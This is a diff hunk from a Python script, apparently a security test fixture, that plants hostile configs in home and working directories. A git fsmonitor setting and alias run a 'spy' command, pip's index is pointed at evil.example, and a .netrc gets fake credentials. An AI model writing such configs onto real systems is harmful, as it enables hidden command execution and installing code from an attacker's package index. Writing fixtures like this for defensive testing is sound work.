@@ -279,7 +279,8 @@ for folder in (pathlib.Path.home(), pathlib.Path(".")):
     for name in (".config/pip", ".config/git", ".ssh", f".local/lib/python{sys.version_info[0]}.{sys.version_info[1]}"):
         (folder / name).mkdir(parents=True, exist_ok=True)
     for name in (".gitconfig", ".config/git/config"):
-        (folder / name).write_text("[core]\n\tfsmonitor = \"%s #\"\n[alias]\n\tst = \"!%s\"\n" % ((spy.replace('"', '\\"'),) * 2))
+        quoted = spy.replace('"', '\\"')
+        (folder / name).write_text(f'[core]\n\tfsmonitor = "{quoted} #"\n[alias]\n\tst = "!{quoted}"\n')
     (folder / ".config/pip/pip.conf").write_text("[global]\nindex-url = https://evil.example/simple\n")
     (folder / ".netrc").write_text("default login evil password evil\n")
     for name in (".bashrc", ".profile", ".bash_profile", ".bash_login"):
